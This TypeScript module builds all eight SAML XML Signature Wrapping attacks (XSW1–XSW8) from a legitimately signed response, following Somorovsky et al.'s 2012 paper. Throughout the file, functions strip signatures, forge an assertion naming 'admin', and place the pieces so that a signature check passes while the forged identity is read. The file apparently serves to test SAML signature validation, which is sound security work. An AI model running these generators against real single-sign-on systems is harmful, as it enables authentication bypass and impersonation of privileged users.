/**
 * The eight forms of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012), made from an
 * honestly signed answer.
 */

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;

const partOf = (xml: string, part: RegExp): string => part.exec(xml)?.[0] ?? '';
const without = (xml: string, part: RegExp): string => xml.replace(part, '');
/** An unsigned copy that names another user. */
const evilOf = (xml: string): string =>
  without(xml, SIGNATURE)
    .replace(/ ID="[^"]*"/, ' ID="_evil"')
    .replace(/>[^<]*<\/saml:NameID>/, '>admin</saml:NameID>');
const into = (xml: string, tag: string, what: string): string => xml.replace(tag, () => `${what}${tag}`);

interface Parts {
  readonly whole: string;
  readonly assertion: string;
  readonly signature: string;
  readonly evil: string;
}

const assertionAttack =
  (make: (parts: Parts) => string) =>
  (whole: string): string => {
    const assertion = partOf(whole, ASSERTION);
    const parts = { whole, assertion, signature: partOf(assertion, SIGNATURE), evil: evilOf(assertion) };
    return whole.replace(ASSERTION, () => make(parts));
  };
const signedEvil = ({ evil, signature }: Parts, inside = ''): string =>
  evil.replace('</saml:Issuer>', () => `</saml:Issuer>${into(signature, '</ds:Signature>', inside)}`);

/** Wraps a response that is signed as a whole. */
const responseAttack =
  (place: (original: string, signature: string) => string) =>
  (whole: string): string => {
    const signature = partOf(whole, SIGNATURE);
    const original = without(whole, SIGNATURE);
    const evil = original
      .replace(/ ID="[^"]*"/, ' ID="_evil-response"')
      .replace(ASSERTION, (assertion) => evilOf(assertion));
    return evil.replace('</saml:Issuer>', () => `</saml:Issuer>${place(original, signature)}`);
  };

export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  XSW1: responseAttack((original, signature) => into(signature, '</ds:Signature>', original)),
  XSW2: responseAttack((original, signature) => `${original}${signature}`),
  XSW3: assertionAttack(({ evil, assertion }) => `${evil}${assertion}`),
  XSW4: assertionAttack(({ evil, assertion }) => into(evil, '</saml:Assertion>', assertion)),
  XSW5: assertionAttack((parts) => `${signedEvil(parts)}${without(parts.assertion, SIGNATURE)}`),
  XSW6: assertionAttack((parts) => signedEvil(parts, without(parts.assertion, SIGNATURE))),
  XSW7: assertionAttack(({ evil, assertion }) => `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  XSW8: assertionAttack((parts) =>
    signedEvil(parts, `<ds:Object>${without(parts.assertion, SIGNATURE)}</ds:Object>`),
  ),
};
